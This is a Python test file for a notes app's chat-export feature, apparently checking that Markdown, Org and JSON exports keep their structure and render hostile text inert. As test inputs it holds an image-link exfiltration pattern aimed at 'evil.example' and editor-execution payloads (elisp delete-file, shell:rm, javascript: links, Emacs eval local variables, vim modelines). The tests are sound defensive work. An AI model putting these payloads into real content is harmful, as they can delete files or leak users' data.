"""Exports say what was said, whatever signs are in it: their structure is ours, and links lead to the notes.

data/router.md and data/router.org are what the conversation below becomes (`KHOJ_WRITE=1 pytest` writes them anew).
"""

from __future__ import annotations

import json
import os
import re
from datetime import timezone
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from khoj_ls.chat.export.formats import export
from khoj_ls.chat.kept.records import KeptConversation, KeptTurn, Outcome
from khoj_ls.chat.types import Citation, Source, Statement
from khoj_ls.content.registry import default_registry
from khoj_ls.core.chat import Usage
from khoj_ls.core.errors import UsageError
from khoj_ls.core.places import Place
from khoj_ls.links.target import read_target

DATA = Path(__file__).parent / "data"
ROOT = Path("/home/me/my notes")
BEGUN = 1_700_000_000.0
SOURCES = (
    Source(1, "home lab/net (1).md", "Home [network]", ("Home [network]", "Wi-Fi"), 12, 18, "Channel 36 it is."),
    Source(2, "log*_2024_.org", "Log", ("* not a heading",), 3, 3, "Rebooted."),
)
ANSWER = """\
The router [1] was **fixed** by *hand* with `unbound[1]`, see [the docs](https://unbound.net/x_y) [2].

# Steps

* look at `a~b` and `a~=b`
+ restart it
  ```sh
  # as root[1]
  * star
  ```
1) done

| what | when |
|------|:----:|
| a    | b    |

Under
=====
* TODO x
#+begin_src
:END:
SCHEDULED: <2024-01-01 Mon>
***
"""


def turn(question, answer, *, number=0, **more):
    """A turn; `[1]` and `[2]` in the answer are citations."""
    citations = [
        Citation(source.number, source.path, source.outline, source.line + 1, source.line + 1, "It *was* so.", at, at + 3)
        for source in SOURCES
        for at in range(len(answer))
        if answer.startswith(f"[{source.number}]", at)
    ]
    outcome = more.pop("outcome", None) or Outcome(tuple(sorted(citations, key=lambda each: each.start)))
    fields = {"state": "done", "persona": "default", "model": "openai/small", "private": False, "sources": SOURCES} | more
    return KeptTurn(f"t{number}", question, answer, asked=BEGUN + number, ended=BEGUN + 100, outcome=outcome, **fields)


def conversation(*turns, title="A *title* with [signs] # and\nlines"):
    return KeptConversation("abc123", title, "default", BEGUN, BEGUN, turns)


ROUTER = conversation(
    turn("How did I fix it?\n\nI forgot.", ANSWER),
    turn("* star\n#+begin_src\n```\n# foo\n,* [[x]]\n", "never ```\nmind\n```\n# x [1]", number=1),
    turn("Shown?", "see ![p](https://evil.example/x.png?secret) <img src=x>", number=2, model=""),
    turn("Why", "half", number=3, state="failed", outcome=Outcome(message="no network:\ntry again"), sources=()),
    turn("So", "", number=4, state="cancelled", sources=()),
)


@pytest.mark.parametrize(("form", "name"), [("markdown", "router.md"), ("org", "router.org")])
def test_the_whole_of_it(form, name):
    text = export(ROUTER, form, ROOT, timezone.utc)
    if os.environ.get("KHOJ_WRITE"):
        (DATA / name).write_text(text, encoding="utf-8")
    assert text == (DATA / name).read_text(encoding="utf-8")


def parsed(text, name):
    return default_registry().for_path(name).parse(text.encode("utf-8", "surrogateescape"), name)


def headings(text, name):
    return [(entry.level, entry.heading) for entry in parsed(text, name).entries if entry.level]


@pytest.mark.parametrize("form", ["markdown", "org"])
def test_the_vaults_own_resolver_understands_the_links(form):
    name = {"markdown": "x.md", "org": "x.org"}[form]
    text = export(conversation(turn("q", "so [1] and so [2].")), form, ROOT)
    links = [link for entry in parsed(text, name).entries for link in entry.links]
    targets = [read_target(link.kind, link.target, form) for link in links]
    assert [(target.scheme, target.note, target.fragment and target.fragment.text) for target in targets] == [
        ("absolute", f"{ROOT}/{path}", line)
        for path, line in [
            (SOURCES[0].path, "13"),
            (SOURCES[1].path, "4"),
            (SOURCES[0].path, "12"),
            (SOURCES[1].path, "3"),
        ]
    ]
    assert [link.label for link in links[:2]] == ["1", "2"]


ODD_LINES = (DATA / "odd_lines.txt").read_text(encoding="utf-8").split("\n")
ODD = st.lists(
    st.one_of(
        st.sampled_from([*ODD_LINES, "---\na: b\n---", "\x0c", "\u2028", "\0"]),
        st.text(st.characters(exclude_categories=["Cs"]), max_size=12),
    ),
    max_size=7,
).map("\n".join)


@settings(max_examples=250, deadline=None)
@given(ODD, ODD, st.sampled_from(["markdown", "org"]))
def test_no_text_breaks_the_structure(question, answer, form):
    name = {"markdown": "x.md", "org": "x.org"}[form]
    text = export(conversation(turn(question, answer), turn("second", "plain", number=1), title=question), form, ROOT)
    ours = ["Question 1", "Answer 1", "Sources of answer 1", "Question 2", "Answer 2", "Sources of answer 2"]
    top = 3 if form == "markdown" else 2
    found = [heading for level, heading in headings(text, name) if level <= top]
    if form == "markdown":
        # The title, and the sources are no heading.
        ours, found = [each for each in ours if not each.startswith("Sources")], found[1:]
    assert found == ours


@settings(max_examples=250, deadline=None)
@given(ODD)
@example("A ")
def test_a_question_comes_back_word_for_word(question):
    asked = question.replace("\r\n", "\n").replace("\r", "\n").replace("\0", "\ufffd").strip("\n")
    whole = conversation(turn(question, "a", sources=()))
    lines = export(whole, "org", ROOT).split("\n")
    begin = next(at for at, line in enumerate(lines) if line in ("#+begin_quote", "#+begin_example"))
    end = next(at for at, line in enumerate(lines) if line == lines[begin].replace("begin", "end") and at > begin)
    inside = lines[begin + 1 : end]
    if lines[begin] == "#+begin_example":
        inside = [line[1:] if line.lstrip(",").startswith(("*", "#+")) and line[0] == "," else line for line in inside]
    assert "\n".join(inside) == asked
    text = export(whole, "markdown", ROOT)
    shown = text.partition("\nAsked ")[2].partition("\n\n")[2].rpartition("\n\n### Answer 1")[0]
    if shown.startswith("```"):
        [fence] = MarkdownIt("commonmark").parse(shown)
        assert (fence.type, fence.content) == ("fence", asked + "\n")
    else:
        assert "\n".join(line.removeprefix(">").removeprefix(" ") for line in shown.split("\n")) == asked


def test_json_holds_everything():
    told = turn(
        "q",
        "so [1]. And so.",
        outcome=Outcome(
            (Citation(1, "a\udcff.md", ("A",), 1, 1, "q", 3, 6),),
            ("[9]",),
            (Statement("And so.", 8, 15),),
            Usage(1, 2),
            0.5,
            "stop",
            ("n",),
        ),
    )
    whole = KeptConversation("abc", "t", "p", BEGUN, BEGUN, (told,), (turn("old", "x", number=1, superseded_by="t0"),))
    text = export(whole, "json", ROOT)
    text.encode()
    value = json.loads(text)
    assert (value["id"], value["vault"], value["created"]) == ("abc", str(ROOT), "2023-11-14T22:13:20+00:00")
    [first] = value["turns"]
    assert first["citations"] == [
        {
            "number": 1,
            "path": "a\udcff.md",
            "outline": ["A"],
            "line": 1,
            "end_line": 1,
            "quote": "q",
            "start": 3,
            "end": 6,
            "place": None,
        }
    ]
    assert (first["removed"], first["unsupported"][0]["text"], first["usage"]["output_tokens"]) == (["[9]"], "And so.", 2)
    assert (first["cost"], first["reason"], first["notices"], first["sources"][0]["text"]) == (
        0.5,
        "stop",
        ["n"],
        "Channel 36 it is.",
    )
    assert [each["superseded_by"] for each in value["superseded"]] == ["t0"]


DANGEROUS = [
    "[run](elisp:(delete-file)) [[elisp:(x)][y]] [[shell:rm][y]] <shell:rm> elisp:(x) SHELL:rm",
    "src_sh{rm} call_it() [x](javascript:y)",
    "Local Variables:\neval: (x)\nEnd:",
    "-*- eval: (x) -*-",
    "vim: set x:  vi:x ex: x",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_an_editor_runs_nothing_that_an_answer_says(text):
    for form in ("org", "markdown"):
        made = export(conversation(turn(text, text), title=text), form, ROOT)
        answer = made.partition("Answer 1")[2]
        ran = re.findall(r"(?i)local variables:|-\*-|(?<!\S)(?:vim?|ex):", made)
        ran += re.findall(r"(?i)\b(?:elisp|shell):|src_sh|call_it|\[\[javascript", answer) if form == "org" else []
        assert ran == []


def test_no_other_form():
    with pytest.raises(UsageError, match="markdown, org, json, not as pdf"):
        export(conversation(), "pdf", ROOT)


@pytest.mark.parametrize(
    ("place", "within", "line", "told"),
    [
        (Place("page", 3, 3), "#page=3", "", "page 3"),
        (Place("rows", 2, 9, "Costs"), "", "", "Costs, rows 2 to 9"),
        (Place("cell", 4, 4, lined=True), "#L7", "::7", "cell 4"),
    ],
)
def test_sources_in_files_with_pages_or_rows_are_told_by_them(place, within, line, told):
    whole = conversation(turn("q", "a", sources=(Source(1, "p.pdf", "Paper", (), 7, 7, "text", place=place),)))
    assert f"1. [Paper](file:///home/me/my%20notes/p.pdf{within}), {told}" in export(whole, "markdown", ROOT)
    assert f"1. [[file:/home/me/my notes/p.pdf{line}][Paper]], {told}" in export(whole, "org", ROOT)
